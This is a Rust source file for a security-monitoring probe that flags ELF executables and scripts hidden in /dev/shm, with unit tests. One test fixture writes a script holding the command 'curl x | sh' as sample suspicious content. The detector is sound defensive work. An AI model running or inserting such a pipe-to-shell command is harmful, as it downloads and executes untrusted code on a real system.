//! Executables and scripts stored in shared memory (`/dev/shm`), where
//! malware likes to hide because nothing there survives a reboot.

use anyhow::Context;
use std::fs::{self, File};
use std::io::Read;
use std::path::{Path, PathBuf};
use tracing::debug;
use walkdir::WalkDir;

use tripline_core::engine::{Findings, Probe};
use tripline_core::error::{EngineError, Result};
use tripline_core::settings::DevShmSettings;
use tripline_core::step::Empty;

pub const NAME: &str = "search_dev_shm";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShmContent {
    Elf,
    Script,
}

impl ShmContent {
    fn label(self) -> &'static str {
        match self {
            ShmContent::Elf => "ELF executable",
            ShmContent::Script => "script",
        }
    }
}

/// Classify by leading bytes; anything else is ignored.
pub fn classify(path: &Path) -> Option<ShmContent> {
    let mut head = Vec::with_capacity(4);
    File::open(path)
        .and_then(|f| f.take(4).read_to_end(&mut head))
        .ok()?;
    if head.starts_with(b"\x7fELF") {
        Some(ShmContent::Elf)
    } else if head.starts_with(b"#!") {
        Some(ShmContent::Script)
    } else {
        None
    }
}

pub struct DevShmProbe {
    settings: DevShmSettings,
}

impl DevShmProbe {
    pub fn new(settings: DevShmSettings) -> Self {
        Self { settings }
    }

    fn suspicious_files(&self) -> anyhow::Result<Vec<(PathBuf, ShmContent)>> {
        let root = &self.settings.shm_dir;
        fs::metadata(root).with_context(|| format!("cannot access {}", root.display()))?;

        Ok(WalkDir::new(root)
            .min_depth(1)
            .sort_by_file_name()
            .into_iter()
            .filter_map(|entry| match entry {
                Ok(entry) => Some(entry),
                Err(e) => {
                    debug!("skipping during shm search: {e}");
                    None
                }
            })
            .filter(|entry| entry.file_type().is_file())
            .filter_map(|entry| {
                let kind = classify(entry.path())?;
                Some((entry.into_path(), kind))
            })
            .collect())
    }
}

impl Probe for DevShmProbe {
    type State = Empty;

    fn name(&self) -> &'static str {
        NAME
    }

    fn activated(&self) -> bool {
        self.settings.activated
    }

    fn stateful(&self) -> bool {
        false
    }

    fn inspect(&self, _prior: &Empty, findings: &mut Findings) -> Result<Empty> {
        let files = self
            .suspicious_files()
            .map_err(|e| EngineError::collection(NAME, e))?;
        if !files.is_empty() {
            let lines: Vec<String> = files
                .iter()
                .map(|(path, kind)| format!("{}: {}", path.display(), kind.label()))
                .collect();
            findings.push(format!(
                "File(s) in {} suspicious:\n\n{}",
                self.settings.shm_dir.display(),
                lines.join("\n")
            ));
        }
        Ok(Empty {})
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::tempdir;

    fn probe(root: &Path) -> DevShmProbe {
        DevShmProbe::new(DevShmSettings {
            activated: true,
            shm_dir: root.to_path_buf(),
        })
    }

    #[test]
    fn reports_binaries_and_scripts_only() {
        let dir = tempdir().unwrap();
        let nested = dir.path().join("sess");
        fs::create_dir(&nested).unwrap();
        fs::write(dir.path().join("a.out"), b"\x7fELF\x02\x01\x01").unwrap();
        fs::write(nested.join("run.sh"), b"#!/bin/sh\ncurl x | sh\n").unwrap();
        fs::write(dir.path().join("pulse-shm-1"), b"\0\0\0\0\0\0").unwrap();
        fs::write(dir.path().join("tiny"), b"#").unwrap();

        let mut findings = Findings::new();
        probe(dir.path()).inspect(&Empty {}, &mut findings).unwrap();
        assert_eq!(
            findings.messages(),
            &[format!(
                "File(s) in {root} suspicious:\n\n{root}/a.out: ELF executable\n{root}/sess/run.sh: script",
                root = dir.path().display()
            )]
        );
    }

    #[test]
    fn empty_directory_is_silent() {
        let dir = tempdir().unwrap();
        let mut findings = Findings::new();
        probe(dir.path()).inspect(&Empty {}, &mut findings).unwrap();
        assert!(findings.is_empty());
    }

    #[test]
    fn missing_directory_is_a_collection_error() {
        let dir = tempdir().unwrap();
        let err = probe(&dir.path().join("absent"))
            .inspect(&Empty {}, &mut Findings::new())
            .unwrap_err();
        assert!(matches!(err, EngineError::Collection { .. }));
    }
}
